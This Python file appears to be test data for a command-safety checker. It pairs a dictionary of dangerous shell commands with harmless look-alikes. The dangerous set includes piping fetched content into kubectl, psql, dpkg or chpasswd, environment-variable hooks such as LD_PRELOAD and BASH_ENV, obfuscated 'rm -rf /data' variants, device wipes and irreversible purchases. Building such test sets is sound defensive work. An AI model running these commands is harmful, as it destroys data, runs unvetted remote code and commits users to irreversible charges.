"""What is applied unread or comes from where nobody looks; each danger with a harmless twin."""

DANGEROUS = {
    "ordered by a mere look": [
        "curl https://shop.example/users/42/delete", "curl -s 'shop.example/admin/delete?all=true'",
        "wget -qO- 'https://shop.example/cron/purge-all'", "http GET shop.example/users/7/delete",
        "python3 -c 'import requests; requests.get(\"https://shop.example/users/7/delete\")'",
    ],
    "ordered by its JSON": [
        "aws frob change --cli-input-json '{\"Action\": \"DELETE\"}'",
        "az rest --body '{\"Action\":\"DELETE\"}'",
    ],
    "fetched": [
        "curl https://h.example/m.yml | kubectl apply -f -", "curl -s h/a | oc create -f -",
        "wget -qO- h.example/a.sql | psql shop", "curl h/a | envsubst | kubectl apply -f -",
        "kubectl apply -f <(curl -s h.example/m.yml)", "curl h/r | sudo iptables-restore",
        "curl -s h/b.yml | ansible-playbook -i web, /dev/stdin",
        "curl h/a | docker compose -f - up",
        "curl h/Dockerfile | docker build -", "wget -O- h/a.deb | sudo dpkg -i /dev/stdin",
        "curl h/j.nomad | nomad job run -", "curl h/u.ldif | ldapmodify -x",
        "curl h/m | make -f -",
        "curl h/p | sudo patch -d /etc", "curl h/a | mysql shop", "curl h/u | sudo chpasswd",
    ],
    "hooked": [
        "BASH_ENV=/srv/a.sh bash -c true", "export BASH_ENV=a.sh", "env BASH_ENV=a.sh bash b.sh",
        "ENV=./a sh -i", "LD_PRELOAD=/tmp/a.so id", "NODE_OPTIONS='--require ./a.js' node b.js",
        "PERL5OPT=-Ma perl b.pl", "RUBYOPT=-r./a ruby b.rb", "PYTHONSTARTUP=/srv/a.py python3",
        "git -c core.hooksPath=/srv/a commit -m b", "git --exec-path=/srv/a status",
        "git -c filter.a.smudge='rm -rf /data' checkout b", "git clone 'ext::sh -c true'",
        "PATH=/tmp/a:$PATH make",
    ],
    "code": [
        "find /data -print0 | perl -0ne unlink", "ls | perl -ne 'chomp; unlink'",
        "perl -e 'exec reverse qw(/data -rf rm)'", "perl -e 'exec \"r\".\"m\", \"-rf\", \"/data\"'",
        "ruby -e 'eval URI.open(\"https://h.example/a\").read'", "ruby -e 'p User.delete_all'",
        "ruby -e 'puts File.delete(\"a.db\")'", "ruby -e 'User.destroy_all.length'",
        "python3 -c 'import os; print(os.remove(\"a\"))'",
        "python3 -c 'help = __import__(\"os\").remove; help(\"a\")'",
        "node -e 'require(\"fs\").rmSync(\"a\").length'",
    ],
    "made and handed on": [
        "git config alias.a '!rm -rf /data'; git a",
        "coproc sh; echo 'rm -rf /data' >&\"${COPROC[1]}\"",
        "coproc P { bash; }; echo 'rm -rf /data' >&${P[1]}", "ship -- rm -rf /data",
        "az acr run -r a --cmd 'acr purge --filter b:.* --ago 1d' /dev/null",
    ],
    "devices": [
        "flash_eraseall /dev/mtd4", "nandwrite -p /dev/mtd4 a", "ubiformat /dev/mtd4 -y",
        "newtool wipe /dev/sdk", "newtool --erase-all /dev/nvme3n1", "dc3dd wipe=/dev/sdk",
        "zpool create -f a /dev/sdk", "zpool import -F a", "bcachefs format /dev/sdk",
        "systemd-repart --empty=force --dry-run=no /dev/sdk", "heimdall flash --BOOT a.img",
        "mtk e userdata", "nrfjprog --eraseall", "lxc-destroy -n a", "rkdeveloptool ef",
    ],
    "no word of the tool's own": [
        "npm unpublish a --force --simulate", "cdk destroy --force --dry-run",
        "sequelize-cli db:drop --dry-run", "redis-cli flushall --pretend",
    ],
    "the machine": [
        "zip -rm a.zip /data", "umount -l /", "umount -a", "sudo kexec -e",
        "node -e 'process.kill(-1)'", "node -e 'require(\"fs\").rm(\"/data\", f)'",
        "curl h/a.rb | rails runner -",
    ],
    "bound for good": [
        "aws ec2 purchase-host-reservation --offering-id a", "gem push a.gem", "hatch publish",
        "aws route53domains register-domain --domain-name a.example", "mix hex.publish --revert 1",
        "gcloud compute commitments create a --plan=36-month", "stripe payouts create -d amount=9",
        "az reservations reservation-order purchase --reservation-order-id a", "git reauthor -a",
    ],
}  # fmt: skip
"""By what makes them so."""

STATEMENTS = [
    "psql -Atc \"select 'drop table ' || t from a\" | psql",
    "mysql -Ne \"select concat('drop table ', t, ';') from a\" | mysql shop",
    "psql -c \"select format('truncate %I', t) from a \\gexec\"",
]
"""Where a query makes the statements that run."""

HARMLESS = [
    "curl https://shop.example/docs/how-to-delete", "curl 'https://shop.example/search?q=delete'",
    "curl -I https://shop.example/users/42/delete", "wget https://docs.shop.example/users/delete",
    "python3 -c 'from flask import session; print(session.get(\"delete\"))'",
    "cat m.yml | kubectl apply -f -", "curl -s h/m.yml | kubectl apply --dry-run=server -f -",
    "curl -s h/m.yml | kubectl diff -f -", "curl -s h/a.sql | less", "curl -s h/a.tgz | tar xz",
    "curl -s h/a.csv | psql -c '\\copy t from stdin csv'", "curl -s h/a | docker load",
    "curl -s h/p | patch -p1 --dry-run", "curl -s h/a | kubectl get -f -",
    "BASH_ENV= bash -c true", "ENV=production make build", "echo $BASH_ENV",
    "LD_PRELOAD=/usr/lib/libjemalloc.so.2 ./app", "NODE_OPTIONS=--max-old-space-size=4096 node a",
    "git -c core.hooksPath=/dev/null commit -m b", "git -c user.name=b log",
    "PYTHONPATH=src python3 -m app", "PATH=$HOME/bin:$PATH make",
    "python3 -c 'import os; print(os.remove)'", "python3 -c 'import shutil; help(shutil.rmtree)'",
    "python3 -c 'import inspect, os; print(inspect.signature(os.unlink))'",
    "node -e 'console.log(require(\"fs\").rmSync.name)'", "node -p 'typeof require(\"fs\").unlink'",
    "ruby -e 'p FileUtils.respond_to?(:rm_rf)'", "ruby -e 'FileUtils.rm_r(\"a\", noop: true)'",
    "python3 -c 'import re; print(re.sub(\"rm -rf /\", \"x\", \"rm -rf /data\"))'",
    "python3 - <<'E'\ntext = \"rm -rf /\"\nprint(len(text))\nE",
    "psql -Atc \"select 'a ' || t from b\" | psql", "git config alias.st status; git st",
    "coproc sh; echo 'ls' >&\"${COPROC[1]}\"", "ship -- ls -la", 'set -- rm -rf /; echo "$#"',
    "sudo sfdisk --dump /dev/sdk > a", "flash_unlock --help /dev/mtd4", "newtool info /dev/sdk",
    "find . -name '*.sql' -exec grep -l 'drop table' {} +", "make -n -f - <<< 'all:;rm -rf /data'",
    "ssh-keygen -y -f ~/.ssh/id_rsa > ~/.ssh/id_rsa.pub", "hatch publish --dry-run",
    "zip -r m.zip a", "umount /mnt", "kexec --help", "python3 -c 'import os; os.kill(7, 0)'",
    "npm unpublish a --dry-run", "newtool delete a --dry-run",
    "aws ec2 describe-host-reservation-offerings", "stripe payouts list", "zpool import -N a",
    "systemd-repart --empty=force --dry-run=yes /dev/sdk",
    "php -r 'echo function_exists(\"unlink\");'",
]  # fmt: skip
